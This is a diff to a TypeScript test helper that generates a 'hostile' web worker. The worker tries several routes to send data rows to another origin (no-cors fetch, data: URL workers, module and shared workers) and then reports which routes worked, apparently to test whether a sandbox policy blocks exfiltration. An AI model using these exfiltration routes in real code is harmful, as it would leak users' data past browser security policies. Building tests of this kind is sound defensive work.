@@ -8,7 +8,7 @@ export interface Report {
  * A worker that tries everything it can to send its rows to another origin, and then reports what it tried,
  * which shows that it ran and had the rows.
  * @param report address on its own server, which the site's policy allows; without it the worker is a classic
- *   script, as in the saved copy, and posts the report to the page
+ *   script, as in the saved copy, and posts the report to the page: first without attempts, then with all
  */
 export function hostileWorker(elsewhere: string, report?: string): string {
   const isModule = report !== undefined;
@@ -66,8 +66,9 @@ export function hostileWorker(elsewhere: string, report?: string): string {
       'worker-from-data': (to) => inOther('data:text/javascript,' + encodeURIComponent(
         'fetch(' + JSON.stringify(to) + ', { mode: "no-cors" }).finally(() => postMessage(0))')),
       'worker-from-here': (to) => inOther(here + '?send=' + encodeURIComponent(to), { type: 'module' }),
-      'worker-from-there': (to) => inOther(to, { type: 'module' }),
       'shared-worker': (to) => new SharedWorker(here + '?send=' + encodeURIComponent(to), { type: 'module' }),
+      // Last, as Firefox's worker sometimes stops here for good.
+      'worker-from-there': (to) => inOther(to, { type: 'module' }),
     };
     const toSend = new URL(here).searchParams.get('send');
     if (toSend !== null) {
@@ -79,6 +80,8 @@ export function hostileWorker(elsewhere: string, report?: string): string {
       const rows = await firstRows(data.args[0].source);
       const late = new Promise((resolve) => setTimeout(resolve, 2000, 'no answer'));
       const tried = {};
+      const outcome = { rows, tried };
+      ${isModule ? '' : send};
       await Promise.all(Object.entries(ways).map(async ([way, act]) => {
         try {
           const outcome = await Promise.race([act(sent(way, rows), rows), late]);
@@ -87,7 +90,6 @@ export function hostileWorker(elsewhere: string, report?: string): string {
           tried[way] = String(error).slice(0, 80);
         }
       }));
-      const outcome = { rows, tried };
       await ${send};
     });
   `;
